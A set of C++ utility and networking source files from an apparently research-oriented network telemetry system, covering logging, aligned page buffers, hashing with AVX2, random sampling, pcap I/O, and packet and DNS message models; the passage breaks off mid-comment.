void set_log_level(LogLevel level) noexcept;

// Parse a CLI spelling: "debug", "info", "warn", "error" or "off"
// (lowercase). Returns nullopt for anything else.
[[nodiscard]] std::optional<LogLevel> log_level_from_string(std::string_view s) noexcept;

namespace detail {
void log_prefix(LogLevel level, std::string_view component);
}

// Printf-style logging: SONATA_LOG(kInfo, "planner", "chose %d levels", n);
#define SONATA_LOG(level, component, ...)                                      \
  do {                                                                         \
    if (static_cast<int>(level) >= static_cast<int>(::sonata::util::log_level())) { \
      ::sonata::util::detail::log_prefix((level), (component));                \
      std::fprintf(stderr, __VA_ARGS__);                                       \
      std::fputc('\n', stderr);                                                \
    }                                                                          \
  } while (false)

#define SONATA_DEBUG(component, ...) SONATA_LOG(::sonata::util::LogLevel::kDebug, component, __VA_ARGS__)
#define SONATA_INFO(component, ...) SONATA_LOG(::sonata::util::LogLevel::kInfo, component, __VA_ARGS__)
#define SONATA_WARN(component, ...) SONATA_LOG(::sonata::util::LogLevel::kWarn, component, __VA_ARGS__)
#define SONATA_ERROR(component, ...) SONATA_LOG(::sonata::util::LogLevel::kError, component, __VA_ARGS__)

}  // namespace sonata::util
