// Page-granular buffers for register and table memory.
//
// The keyed hot structures — FlatTable's control/slot index and the
// register chains' occupancy words — are large flat arrays that live for
// the process and are re-walked every window. Backing them with
// std::vector works but leaves two costs on the table: 4 KiB TLB entries
// (a 1M-key table's index alone spans hundreds of pages) and growth
// reallocation that briefly doubles footprint. PageBuffer is the arena
// replacement: one aligned block per buffer, sized in page multiples,
// advised MADV_HUGEPAGE once it crosses a threshold so the kernel can
// collapse it to 2 MiB mappings. Strictly POD storage — the element type
// must be trivially copyable and trivially destructible — because these
// are exactly the bulk-memset/bulk-walk arrays the data path owns.
//
// The buffer deliberately mirrors the tiny std::vector subset FlatTable
// and RegisterChain actually use (assign / resize / data / operator[] /
// capacity), so swapping the backing store is a type change, not a logic
// change. Best-effort by design: when madvise is refused (or the platform
// has no THP) the buffer behaves like a plain aligned allocation.
#pragma once

#include <algorithm>
#include <cstddef>
#include <cstring>
#include <new>
#include <type_traits>
#include <utility>

#include "util/cpu.h"

namespace sonata::util {

template <typename T>
class PageBuffer {
  static_assert(std::is_trivially_copyable_v<T> && std::is_trivially_destructible_v<T>,
                "PageBuffer is POD-only storage (bulk memset/walk arrays)");

 public:
  // Buffers at or above this byte size get the huge-page advice; smaller
  // ones are not worth a syscall (a 2 MiB region is the THP unit).
  static constexpr std::size_t kHugeThreshold = 2u << 20;

  PageBuffer() = default;
  ~PageBuffer() { release(); }

  PageBuffer(PageBuffer&& o) noexcept
      : data_(std::exchange(o.data_, nullptr)),
        size_(std::exchange(o.size_, 0)),
        cap_(std::exchange(o.cap_, 0)) {}
  PageBuffer& operator=(PageBuffer&& o) noexcept {
    if (this != &o) {
      release();
      data_ = std::exchange(o.data_, nullptr);
      size_ = std::exchange(o.size_, 0);
      cap_ = std::exchange(o.cap_, 0);
    }
    return *this;
  }
  PageBuffer(const PageBuffer&) = delete;
  PageBuffer& operator=(const PageBuffer&) = delete;

  [[nodiscard]] T* data() noexcept { return data_; }
  [[nodiscard]] const T* data() const noexcept { return data_; }
  [[nodiscard]] std::size_t size() const noexcept { return size_; }
  [[nodiscard]] std::size_t capacity() const noexcept { return cap_; }
  [[nodiscard]] bool empty() const noexcept { return size_ == 0; }

  [[nodiscard]] T& operator[](std::size_t i) noexcept { return data_[i]; }
  [[nodiscard]] const T& operator[](std::size_t i) const noexcept { return data_[i]; }

  // Grow-only size change; fresh elements are zero-filled (all callers
  // want zeroed index/bitmap memory, and zero-fill keeps this POD-simple).
  void resize(std::size_t n) {
    ensure(n);
    if (n > size_) std::memset(data_ + size_, 0, (n - size_) * sizeof(T));
    size_ = n;
  }

  void assign(std::size_t n, T v) {
    ensure(n);
    size_ = n;
    if (n == 0) return;
    if constexpr (sizeof(T) == 1) {
      std::memset(data_, static_cast<unsigned char>(v), n);
    } else {
      std::fill_n(data_, n, v);
    }
  }

  void clear() noexcept { size_ = 0; }

 private:
  void ensure(std::size_t n) {
    if (n <= cap_) return;
    // Page-multiple capacity: the whole tail of the mapping is usable, so
    // repeated small grows inside one page cost nothing.
    constexpr std::size_t kPage = 4096;
    std::size_t bytes = ((n * sizeof(T) + kPage - 1) / kPage) * kPage;
    if (bytes < cap_ * sizeof(T) * 2) bytes = ((cap_ * sizeof(T) * 2 + kPage - 1) / kPage) * kPage;
    T* fresh = static_cast<T*>(::operator new(bytes, std::align_val_t{kPage}));
    if (size_ > 0) std::memcpy(fresh, data_, size_ * sizeof(T));
    release();
    data_ = fresh;
    cap_ = bytes / sizeof(T);
    if (bytes >= kHugeThreshold) advise_huge_pages(data_, bytes);
  }

  void release() noexcept {
    if (data_ != nullptr) {
      ::operator delete(static_cast<void*>(data_), std::align_val_t{4096});
      data_ = nullptr;
    }
  }

  T* data_ = nullptr;
  std::size_t size_ = 0;
  std::size_t cap_ = 0;
};

}  // namespace sonata::util
