// A minimal expected<T, E> (the toolchain targets C++20, which predates
// std::expected): either a value or a structured error, never an exit() or
// a throw from library code. Control-plane admission, the DSL front end and
// the tool flag parser all speak this type, so callers handle failures the
// same way everywhere.
#pragma once

#include <cassert>
#include <utility>
#include <variant>

namespace sonata::util {

// Tag result for operations that succeed without producing a value
// (Expected<Ok, E> reads better than Expected<std::monostate, E>).
struct Ok {};

template <typename T, typename E>
class Expected {
 public:
  Expected(T value) : state_(std::in_place_index<0>, std::move(value)) {}  // NOLINT(*-explicit-*)
  Expected(E error) : state_(std::in_place_index<1>, std::move(error)) {}  // NOLINT(*-explicit-*)

  [[nodiscard]] bool has_value() const noexcept { return state_.index() == 0; }
  explicit operator bool() const noexcept { return has_value(); }

  [[nodiscard]] T& value() {
    assert(has_value());
    return std::get<0>(state_);
  }
  [[nodiscard]] const T& value() const {
    assert(has_value());
    return std::get<0>(state_);
  }
  [[nodiscard]] E& error() {
    assert(!has_value());
    return std::get<1>(state_);
  }
  [[nodiscard]] const E& error() const {
    assert(!has_value());
    return std::get<1>(state_);
  }

  [[nodiscard]] T& operator*() { return value(); }
  [[nodiscard]] const T& operator*() const { return value(); }
  [[nodiscard]] T* operator->() { return &value(); }
  [[nodiscard]] const T* operator->() const { return &value(); }

  template <typename U>
  [[nodiscard]] T value_or(U&& fallback) const {
    return has_value() ? value() : static_cast<T>(std::forward<U>(fallback));
  }

 private:
  std::variant<T, E> state_;
};

}  // namespace sonata::util
