// Time model: packet timestamps are nanoseconds since trace start; stateful
// operators are evaluated per window of duration W (paper uses W = 3 s).
#pragma once

#include <cstdint>

namespace sonata::util {

using Nanos = std::uint64_t;

inline constexpr Nanos kNanosPerSec = 1'000'000'000ULL;
inline constexpr Nanos kNanosPerMilli = 1'000'000ULL;

[[nodiscard]] constexpr Nanos seconds(double s) noexcept {
  return static_cast<Nanos>(s * static_cast<double>(kNanosPerSec));
}

[[nodiscard]] constexpr double to_seconds(Nanos t) noexcept {
  return static_cast<double>(t) / static_cast<double>(kNanosPerSec);
}

// Which window a timestamp falls in for window size `w`.
[[nodiscard]] constexpr std::uint64_t window_index(Nanos t, Nanos w) noexcept { return t / w; }

}  // namespace sonata::util
