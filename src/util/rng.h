// Deterministic random-number generation and the samplers the synthetic
// traffic model needs (Zipf endpoint popularity, log-normal flow sizes).
//
// Everything is seeded explicitly so traces, plans and benchmark results are
// reproducible run-to-run.
#pragma once

#include <cmath>
#include <cstdint>
#include <vector>

#include "util/hash.h"

namespace sonata::util {

// xoshiro256** — fast, high-quality, deterministic PRNG.
class Rng {
 public:
  using result_type = std::uint64_t;

  explicit Rng(std::uint64_t seed = 0x50A7A0ULL) noexcept { reseed(seed); }

  void reseed(std::uint64_t seed) noexcept {
    // SplitMix64 expansion of the seed into the four state words.
    std::uint64_t x = seed;
    for (auto& w : s_) {
      x += 0x9e3779b97f4a7c15ULL;
      w = mix64(x);
    }
  }

  static constexpr result_type min() noexcept { return 0; }
  static constexpr result_type max() noexcept { return ~static_cast<result_type>(0); }

  result_type operator()() noexcept {
    const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
    const std::uint64_t t = s_[1] << 17;
    s_[2] ^= s_[0];
    s_[3] ^= s_[1];
    s_[1] ^= s_[2];
    s_[0] ^= s_[3];
    s_[2] ^= t;
    s_[3] = rotl(s_[3], 45);
    return result;
  }

  // Uniform integer in [0, bound). bound must be > 0.
  [[nodiscard]] std::uint64_t uniform(std::uint64_t bound) noexcept {
    // Lemire's multiply-shift rejection method.
    std::uint64_t x = (*this)();
    __uint128_t m = static_cast<__uint128_t>(x) * bound;
    auto l = static_cast<std::uint64_t>(m);
    if (l < bound) {
      const std::uint64_t t = -bound % bound;
      while (l < t) {
        x = (*this)();
        m = static_cast<__uint128_t>(x) * bound;
        l = static_cast<std::uint64_t>(m);
      }
    }
    return static_cast<std::uint64_t>(m >> 64);
  }

  // Uniform integer in [lo, hi] inclusive.
  [[nodiscard]] std::uint64_t uniform(std::uint64_t lo, std::uint64_t hi) noexcept {
    return lo + uniform(hi - lo + 1);
  }

  // Uniform double in [0, 1).
  [[nodiscard]] double uniform01() noexcept {
    return static_cast<double>((*this)() >> 11) * 0x1.0p-53;
  }

  [[nodiscard]] bool bernoulli(double p) noexcept { return uniform01() < p; }

  // Standard normal via Box-Muller (single value; simple and adequate here).
  [[nodiscard]] double normal() noexcept {
    double u1 = uniform01();
    while (u1 <= 0.0) u1 = uniform01();
    const double u2 = uniform01();
    return std::sqrt(-2.0 * std::log(u1)) * std::cos(6.283185307179586 * u2);
  }

  [[nodiscard]] double lognormal(double mu, double sigma) noexcept {
    return std::exp(mu + sigma * normal());
  }

  // Geometric number of failures before first success, p in (0,1].
  [[nodiscard]] std::uint64_t geometric(double p) noexcept {
    if (p >= 1.0) return 0;
    double u = uniform01();
    while (u <= 0.0) u = uniform01();
    return static_cast<std::uint64_t>(std::log(u) / std::log(1.0 - p));
  }

  [[nodiscard]] double exponential(double rate) noexcept {
    double u = uniform01();
    while (u <= 0.0) u = uniform01();
    return -std::log(u) / rate;
  }

 private:
  static constexpr std::uint64_t rotl(std::uint64_t x, int k) noexcept {
    return (x << k) | (x >> (64 - k));
  }
  std::uint64_t s_[4]{};
};

// Zipf(s) sampler over ranks [0, n). Uses the classic inverse-CDF over a
// precomputed table; n is at most a few hundred thousand in our traces.
class ZipfSampler {
 public:
  ZipfSampler(std::size_t n, double s);

  [[nodiscard]] std::size_t operator()(Rng& rng) const noexcept;
  [[nodiscard]] std::size_t size() const noexcept { return cdf_.size(); }

 private:
  std::vector<double> cdf_;  // cumulative, normalised to 1.0
};

}  // namespace sonata::util
