#include "util/cpu.h"

#include <atomic>
#include <cstdlib>
#include <thread>

#if defined(__linux__)
#include <sched.h>
#include <sys/mman.h>
#include <unistd.h>

#include <cstdio>
#endif

namespace sonata::util {

namespace {

// Dispatch cache: 0 = undecided, 1 = scalar, 2 = AVX2. A relaxed load is
// all the hot paths ever pay after the first decision.
std::atomic<int> g_simd_state{0};
// Test override: 0 = follow the environment, 1 = force scalar, 2 = force
// AVX2 (still gated on actual CPU support).
std::atomic<int> g_simd_override{0};

bool cpu_has_avx2() noexcept {
#if defined(__x86_64__) || defined(__i386__)
  return __builtin_cpu_supports("avx2") != 0;
#else
  return false;
#endif
}

int decide_simd() noexcept {
  const int override = g_simd_override.load(std::memory_order_relaxed);
  if (override == 1) return 1;
  if (!cpu_has_avx2()) return 1;
  if (override == 2) return 2;
  // std::getenv is not thread-safe against setenv, but the decision runs
  // once at startup before workers spawn; tests use the explicit override.
  const char* no = std::getenv("SONATA_NO_AVX2");
  if (no != nullptr && no[0] != '\0' && !(no[0] == '0' && no[1] == '\0')) return 1;
  return 2;
}

const std::vector<int>& cores_impl() {
  static const std::vector<int> cores = [] {
    std::vector<int> out;
#if defined(__linux__)
    cpu_set_t set;
    CPU_ZERO(&set);
    if (sched_getaffinity(0, sizeof(set), &set) == 0) {
      for (int c = 0; c < CPU_SETSIZE; ++c) {
        if (CPU_ISSET(c, &set)) out.push_back(c);
      }
    }
#endif
    return out;
  }();
  return cores;
}

}  // namespace

bool avx2_enabled() noexcept {
  int state = g_simd_state.load(std::memory_order_relaxed);
  if (state == 0) {
    state = decide_simd();
    g_simd_state.store(state, std::memory_order_relaxed);
  }
  return state == 2;
}

const char* simd_level() noexcept { return avx2_enabled() ? "avx2" : "scalar"; }

void force_scalar_for_test(bool force_scalar, bool reset_to_env) {
  g_simd_override.store(reset_to_env ? 0 : (force_scalar ? 1 : 2), std::memory_order_relaxed);
  g_simd_state.store(0, std::memory_order_relaxed);  // re-decide on next query
}

std::size_t available_cores() noexcept {
  const std::size_t n = cores_impl().size();
  if (n > 0) return n;
  const unsigned hw = std::thread::hardware_concurrency();
  return hw > 0 ? hw : 1;
}

const std::vector<int>& allowed_cores() noexcept { return cores_impl(); }

int pin_thread_to_core(std::size_t worker_index) noexcept {
#if defined(__linux__)
  const std::vector<int>& cores = cores_impl();
  if (cores.empty()) return -1;
  const int core = cores[worker_index % cores.size()];
  cpu_set_t set;
  CPU_ZERO(&set);
  CPU_SET(core, &set);
  if (sched_setaffinity(0, sizeof(set), &set) != 0) return -1;
  return core;
#else
  (void)worker_index;
  return -1;
#endif
}

int numa_node_of_core(int core) noexcept {
#if defined(__linux__)
  // /sys/devices/system/cpu/cpuN/ contains a nodeM symlink per NUMA node.
  char path[96];
  for (int node = 0; node < 64; ++node) {
    std::snprintf(path, sizeof path, "/sys/devices/system/cpu/cpu%d/node%d", core, node);
    if (access(path, F_OK) == 0) return node;
  }
  return -1;
#else
  (void)core;
  return -1;
#endif
}

bool advise_huge_pages(void* ptr, std::size_t len) noexcept {
#if defined(__linux__) && defined(MADV_HUGEPAGE)
  if (ptr == nullptr || len == 0) return false;
  const std::size_t page = static_cast<std::size_t>(sysconf(_SC_PAGESIZE));
  auto addr = reinterpret_cast<std::uintptr_t>(ptr);
  const std::uintptr_t start = addr & ~(page - 1);
  const std::size_t full = ((addr + len + page - 1) & ~(page - 1)) - start;
  return madvise(reinterpret_cast<void*>(start), full, MADV_HUGEPAGE) == 0;
#else
  (void)ptr;
  (void)len;
  return false;
#endif
}

}  // namespace sonata::util
