#include "util/log.h"

#include <atomic>

namespace sonata::util {

namespace {
std::atomic<int> g_level{static_cast<int>(LogLevel::kWarn)};

const char* level_name(LogLevel level) noexcept {
  switch (level) {
    case LogLevel::kDebug: return "DEBUG";
    case LogLevel::kInfo: return "INFO";
    case LogLevel::kWarn: return "WARN";
    case LogLevel::kError: return "ERROR";
    case LogLevel::kOff: return "OFF";
  }
  return "?";
}
}  // namespace

LogLevel log_level() noexcept { return static_cast<LogLevel>(g_level.load(std::memory_order_relaxed)); }

void set_log_level(LogLevel level) noexcept {
  g_level.store(static_cast<int>(level), std::memory_order_relaxed);
}

std::optional<LogLevel> log_level_from_string(std::string_view s) noexcept {
  if (s == "debug") return LogLevel::kDebug;
  if (s == "info") return LogLevel::kInfo;
  if (s == "warn") return LogLevel::kWarn;
  if (s == "error") return LogLevel::kError;
  if (s == "off") return LogLevel::kOff;
  return std::nullopt;
}

namespace detail {
void log_prefix(LogLevel level, std::string_view component) {
  std::fprintf(stderr, "[%s] %.*s: ", level_name(level), static_cast<int>(component.size()),
               component.data());
}
}  // namespace detail

}  // namespace sonata::util
