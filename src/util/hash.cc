#include "util/hash.h"

#include <cassert>

#include "util/cpu.h"

#if defined(__x86_64__)
#include <immintrin.h>
#endif

namespace sonata::util {

std::uint64_t fnv1a64(std::string_view s, std::uint64_t seed) noexcept {
  return fnv1a64(std::as_bytes(std::span{s.data(), s.size()}), seed);
}

HashFamily::HashFamily(std::size_t count, std::uint64_t base_seed) : seeds_size_(count) {
  assert(count >= 1 && count <= kMaxFamily);
  std::uint64_t s = base_seed;
  for (std::size_t i = 0; i < count; ++i) {
    s = mix64(s + 0x9e3779b97f4a7c15ULL);
    seeds_[i] = s;
  }
}

#if defined(__x86_64__)

namespace {

// 64x64 -> low 64 multiply per lane. AVX2 has no 64-bit vector multiply;
// decompose into 32x32 partial products: lo*lo + ((lo*hi + hi*lo) << 32).
__attribute__((target("avx2"))) inline __m256i mullo64(__m256i a, __m256i b) noexcept {
  const __m256i ahi = _mm256_srli_epi64(a, 32);
  const __m256i bhi = _mm256_srli_epi64(b, 32);
  const __m256i lolo = _mm256_mul_epu32(a, b);
  const __m256i hilo = _mm256_mul_epu32(ahi, b);
  const __m256i lohi = _mm256_mul_epu32(a, bhi);
  const __m256i cross = _mm256_add_epi64(hilo, lohi);
  return _mm256_add_epi64(lolo, _mm256_slli_epi64(cross, 32));
}

// Vector mix64 — identical word-for-word to the scalar finalizer.
__attribute__((target("avx2"))) inline __m256i mix64v(__m256i x) noexcept {
  const __m256i c1 = _mm256_set1_epi64x(static_cast<long long>(0xbf58476d1ce4e5b9ULL));
  const __m256i c2 = _mm256_set1_epi64x(static_cast<long long>(0x94d049bb133111ebULL));
  x = _mm256_xor_si256(x, _mm256_srli_epi64(x, 30));
  x = mullo64(x, c1);
  x = _mm256_xor_si256(x, _mm256_srli_epi64(x, 27));
  x = mullo64(x, c2);
  x = _mm256_xor_si256(x, _mm256_srli_epi64(x, 31));
  return x;
}

__attribute__((target("avx2"))) void hash_u64_batch_avx2(const std::uint64_t* keys,
                                                         std::size_t n, std::uint64_t seed,
                                                         std::uint64_t* out) noexcept {
  const __m256i add = _mm256_set1_epi64x(
      static_cast<long long>(0x9e3779b97f4a7c15ULL * (seed + 1)));
  std::size_t i = 0;
  // 8 keys per lane-pass: two 4-lane vectors in flight hide the multiply
  // latency chain of mix64.
  for (; i + 8 <= n; i += 8) {
    __m256i a = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(keys + i));
    __m256i b = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(keys + i + 4));
    a = mix64v(_mm256_add_epi64(a, add));
    b = mix64v(_mm256_add_epi64(b, add));
    _mm256_storeu_si256(reinterpret_cast<__m256i*>(out + i), a);
    _mm256_storeu_si256(reinterpret_cast<__m256i*>(out + i + 4), b);
  }
  for (; i + 4 <= n; i += 4) {
    __m256i a = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(keys + i));
    a = mix64v(_mm256_add_epi64(a, add));
    _mm256_storeu_si256(reinterpret_cast<__m256i*>(out + i), a);
  }
  for (; i < n; ++i) out[i] = hash_u64(keys[i], seed);
}

__attribute__((target("avx2"))) void hash_combine_batch_avx2(std::uint64_t* acc,
                                                             const std::uint64_t* b,
                                                             std::size_t n) noexcept {
  const __m256i gold = _mm256_set1_epi64x(static_cast<long long>(0x9e3779b97f4a7c15ULL));
  std::size_t i = 0;
  for (; i + 4 <= n; i += 4) {
    const __m256i a = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(acc + i));
    const __m256i bv = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(b + i));
    // a ^ (b + gold + (a << 6) + (a >> 2)), then mix64 — scalar formula.
    __m256i t = _mm256_add_epi64(bv, gold);
    t = _mm256_add_epi64(t, _mm256_slli_epi64(a, 6));
    t = _mm256_add_epi64(t, _mm256_srli_epi64(a, 2));
    const __m256i x = mix64v(_mm256_xor_si256(a, t));
    _mm256_storeu_si256(reinterpret_cast<__m256i*>(acc + i), x);
  }
  for (; i < n; ++i) acc[i] = hash_combine(acc[i], b[i]);
}

// hash_all: d seeds, one key. key + C*(seed_i + 1) per lane, then mix.
__attribute__((target("avx2"))) void hash_all_avx2(const std::uint64_t* seeds, std::size_t d,
                                                   std::uint64_t key,
                                                   std::uint64_t* out) noexcept {
  const __m256i gold = _mm256_set1_epi64x(static_cast<long long>(0x9e3779b97f4a7c15ULL));
  const __m256i keyv = _mm256_set1_epi64x(static_cast<long long>(key));
  std::size_t i = 0;
  for (; i + 4 <= d; i += 4) {
    __m256i s = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(seeds + i));
    s = _mm256_add_epi64(s, _mm256_set1_epi64x(1));
    const __m256i x = mix64v(_mm256_add_epi64(keyv, mullo64(gold, s)));
    _mm256_storeu_si256(reinterpret_cast<__m256i*>(out + i), x);
  }
  for (; i < d; ++i) out[i] = hash_u64(key, seeds[i]);
}

}  // namespace

#endif  // __x86_64__

void hash_u64_batch(const std::uint64_t* keys, std::size_t n, std::uint64_t seed,
                    std::uint64_t* out) noexcept {
#if defined(__x86_64__)
  if (avx2_enabled()) {
    hash_u64_batch_avx2(keys, n, seed, out);
    return;
  }
#endif
  for (std::size_t i = 0; i < n; ++i) out[i] = hash_u64(keys[i], seed);
}

void hash_combine_batch(std::uint64_t* acc, const std::uint64_t* b, std::size_t n) noexcept {
#if defined(__x86_64__)
  if (avx2_enabled()) {
    hash_combine_batch_avx2(acc, b, n);
    return;
  }
#endif
  for (std::size_t i = 0; i < n; ++i) acc[i] = hash_combine(acc[i], b[i]);
}

void HashFamily::hash_all(std::uint64_t key, std::uint64_t* out) const noexcept {
#if defined(__x86_64__)
  if (seeds_size_ >= 4 && avx2_enabled()) {
    hash_all_avx2(seeds_, seeds_size_, key, out);
    return;
  }
#endif
  for (std::size_t i = 0; i < seeds_size_; ++i) out[i] = hash_u64(key, seeds_[i]);
}

}  // namespace sonata::util
