#include "util/hash.h"

#include <cassert>

namespace sonata::util {

std::uint64_t fnv1a64(std::string_view s, std::uint64_t seed) noexcept {
  return fnv1a64(std::as_bytes(std::span{s.data(), s.size()}), seed);
}

HashFamily::HashFamily(std::size_t count, std::uint64_t base_seed) : seeds_size_(count) {
  assert(count >= 1 && count <= kMaxFamily);
  std::uint64_t s = base_seed;
  for (std::size_t i = 0; i < count; ++i) {
    s = mix64(s + 0x9e3779b97f4a7c15ULL);
    seeds_[i] = s;
  }
}

}  // namespace sonata::util
