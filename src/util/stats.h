// Small statistics helpers: the planner feeds the ILP the *median* of
// per-window cost estimates (paper §3.3), and the evaluation reports
// order-of-magnitude tuple counts.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

namespace sonata::util {

// Median of a sample (by copy; samples here are tiny). Returns 0 for empty.
[[nodiscard]] double median(std::span<const double> xs);
[[nodiscard]] std::uint64_t median_u64(std::span<const std::uint64_t> xs);

// Quantile in [0,1] with linear interpolation. Returns 0 for empty input.
[[nodiscard]] double quantile(std::span<const double> xs, double q);

// Streaming mean/variance/min/max accumulator (Welford).
class Accumulator {
 public:
  void add(double x) noexcept;

  [[nodiscard]] std::uint64_t count() const noexcept { return n_; }
  [[nodiscard]] double mean() const noexcept { return mean_; }
  [[nodiscard]] double variance() const noexcept;  // sample variance
  [[nodiscard]] double stddev() const noexcept;
  [[nodiscard]] double min() const noexcept { return min_; }
  [[nodiscard]] double max() const noexcept { return max_; }
  [[nodiscard]] double sum() const noexcept { return mean_ * static_cast<double>(n_); }

 private:
  std::uint64_t n_ = 0;
  double mean_ = 0.0;
  double m2_ = 0.0;
  double min_ = 0.0;
  double max_ = 0.0;
};

}  // namespace sonata::util
