#include "net/pcap.h"

#include <bit>
#include <cstring>
#include <stdexcept>

namespace sonata::net {

namespace {

constexpr std::uint32_t kMagic = 0xa1b2c3d4;
constexpr std::uint32_t kMagicSwapped = 0xd4c3b2a1;
constexpr std::uint32_t kLinkTypeEthernet = 1;

struct GlobalHeader {
  std::uint32_t magic;
  std::uint16_t version_major;
  std::uint16_t version_minor;
  std::int32_t thiszone;
  std::uint32_t sigfigs;
  std::uint32_t snaplen;
  std::uint32_t network;
};
static_assert(sizeof(GlobalHeader) == 24);

struct RecordHeader {
  std::uint32_t ts_sec;
  std::uint32_t ts_usec;
  std::uint32_t incl_len;
  std::uint32_t orig_len;
};
static_assert(sizeof(RecordHeader) == 16);

[[nodiscard]] std::uint32_t bswap(std::uint32_t v) noexcept {
  return ((v & 0xff) << 24) | ((v & 0xff00) << 8) | ((v >> 8) & 0xff00) | (v >> 24);
}

}  // namespace

PcapWriter::PcapWriter(const std::string& path) : file_(std::fopen(path.c_str(), "wb")) {
  if (!file_) throw std::runtime_error("pcap: cannot open for writing: " + path);
  GlobalHeader gh{kMagic, 2, 4, 0, 0, 65535, kLinkTypeEthernet};
  if (std::fwrite(&gh, sizeof gh, 1, file_.get()) != 1) {
    throw std::runtime_error("pcap: failed to write global header");
  }
}

void PcapWriter::write(const Packet& p) {
  const auto frame = serialize(p);
  RecordHeader rh;
  rh.ts_sec = static_cast<std::uint32_t>(p.ts / util::kNanosPerSec);
  rh.ts_usec = static_cast<std::uint32_t>((p.ts % util::kNanosPerSec) / 1000);
  rh.incl_len = static_cast<std::uint32_t>(frame.size());
  rh.orig_len = rh.incl_len;
  if (std::fwrite(&rh, sizeof rh, 1, file_.get()) != 1 ||
      std::fwrite(frame.data(), 1, frame.size(), file_.get()) != frame.size()) {
    throw std::runtime_error("pcap: failed to write record");
  }
  ++count_;
}

PcapReader::PcapReader(const std::string& path) : file_(std::fopen(path.c_str(), "rb")) {
  if (!file_) throw std::runtime_error("pcap: cannot open for reading: " + path);
  GlobalHeader gh;
  if (std::fread(&gh, sizeof gh, 1, file_.get()) != 1) {
    throw std::runtime_error("pcap: truncated global header");
  }
  if (gh.magic == kMagicSwapped) {
    swapped_ = true;
  } else if (gh.magic != kMagic) {
    throw std::runtime_error("pcap: bad magic");
  }
}

std::optional<Packet> PcapReader::next() {
  RecordHeader rh;
  if (std::fread(&rh, sizeof rh, 1, file_.get()) != 1) return std::nullopt;  // EOF
  if (swapped_) {
    rh.ts_sec = bswap(rh.ts_sec);
    rh.ts_usec = bswap(rh.ts_usec);
    rh.incl_len = bswap(rh.incl_len);
    rh.orig_len = bswap(rh.orig_len);
  }
  if (rh.incl_len > (1u << 20)) throw std::runtime_error("pcap: unreasonable record length");
  std::vector<std::byte> frame(rh.incl_len);
  if (std::fread(frame.data(), 1, frame.size(), file_.get()) != frame.size()) {
    throw std::runtime_error("pcap: truncated record");
  }
  auto packet = parse(frame);
  if (!packet) throw std::runtime_error("pcap: unparsable frame");
  packet->ts = static_cast<util::Nanos>(rh.ts_sec) * util::kNanosPerSec +
               static_cast<util::Nanos>(rh.ts_usec) * 1000;
  return packet;
}

std::vector<Packet> PcapReader::read_all() {
  std::vector<Packet> out;
  while (auto p = next()) out.push_back(std::move(*p));
  return out;
}

}  // namespace sonata::net
