// The parsed packet model that flows through the PISA simulator and the
// stream processor.
//
// The switch's reconfigurable parser exposes header fields; payloads are
// opaque to the switch and can only be examined by the stream processor
// (paper §2.1). `Packet` keeps both: the parsed fields (what the PHV
// carries) and the payload bytes (what gets shunted to the stream
// processor when a query needs it).
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>

#include "net/dns.h"
#include "net/headers.h"
#include "util/time.h"

namespace sonata::net {

struct Packet {
  util::Nanos ts = 0;  // nanoseconds since trace start

  // IPv4
  std::uint32_t src_ip = 0;  // host byte order
  std::uint32_t dst_ip = 0;
  std::uint8_t proto = static_cast<std::uint8_t>(IpProto::kTcp);
  std::uint8_t ttl = 64;
  std::uint16_t total_len = 40;  // IP total length (header + payload), bytes

  // L4 (TCP/UDP); zero if not applicable
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  std::uint8_t tcp_flags = 0;
  std::uint32_t tcp_seq = 0;

  // Application payload, if any (telnet commands, DNS messages, ...).
  // Shared so copies of heavy packets are cheap.
  std::shared_ptr<const std::string> payload;

  // DNS fields parsed from the payload, when the packet is DNS. Kept parsed
  // (not re-decoded per query) because several queries reference them.
  std::shared_ptr<const DnsMessage> dns;

  [[nodiscard]] bool is_tcp() const noexcept { return proto == static_cast<std::uint8_t>(IpProto::kTcp); }
  [[nodiscard]] bool is_udp() const noexcept { return proto == static_cast<std::uint8_t>(IpProto::kUdp); }
  [[nodiscard]] bool has_payload() const noexcept { return payload && !payload->empty(); }
  [[nodiscard]] std::uint16_t payload_len() const noexcept {
    return payload ? static_cast<std::uint16_t>(payload->size()) : 0;
  }

  // Convenience constructors used heavily by trace generation and tests.
  static Packet tcp(util::Nanos ts, std::uint32_t sip, std::uint32_t dip, std::uint16_t sport,
                    std::uint16_t dport, std::uint8_t flags, std::uint16_t len);
  static Packet udp(util::Nanos ts, std::uint32_t sip, std::uint32_t dip, std::uint16_t sport,
                    std::uint16_t dport, std::uint16_t len);

  // Attach a payload (adjusts total_len accordingly).
  Packet& with_payload(std::string data);
  // Attach a DNS message (encodes it as the payload and keeps the parse).
  Packet& with_dns(DnsMessage msg);
};

}  // namespace sonata::net
