// Minimal DNS message model: enough to express and exercise the DNS
// telemetry queries (tunneling via long/odd query names, reflection via
// large ANY responses, malicious-domain detection keyed on dns.rr.name).
//
// dns.rr.name is a *hierarchical* field, so it is a valid refinement key
// (paper §4.1): level k keeps the last k labels of the name ("." is level 0,
// the coarsest; a fully-qualified name is the finest level).
#pragma once

#include <cstddef>
#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

namespace sonata::net {

struct DnsMessage {
  std::uint16_t id = 0;
  bool is_response = false;
  bool recursion_desired = true;
  std::uint16_t qtype = 1;   // A
  std::uint16_t qclass = 1;  // IN
  std::string qname;         // "www.example.com" (no trailing dot)
  std::uint16_t answer_count = 0;
  // Answer payload is modelled as opaque bytes (its size is what reflection
  // queries measure); resolved addresses for A answers are kept explicitly
  // so malicious-domain queries can count unique resolutions.
  std::vector<std::uint32_t> answer_addrs;
  std::uint16_t extra_answer_bytes = 0;  // padding to model amplification
};

// Number of labels in a domain name ("www.example.com" -> 3; "" -> 0).
[[nodiscard]] std::size_t dns_label_count(std::string_view name) noexcept;

// Truncate a name to its last `levels` labels (the refinement operation):
// dns_name_prefix("a.b.example.com", 2) == "example.com";
// levels == 0 gives "." (the root, coarsest level).
[[nodiscard]] std::string dns_name_prefix(std::string_view name, std::size_t levels);

// Serialize to DNS wire format (header + question; answers as A records plus
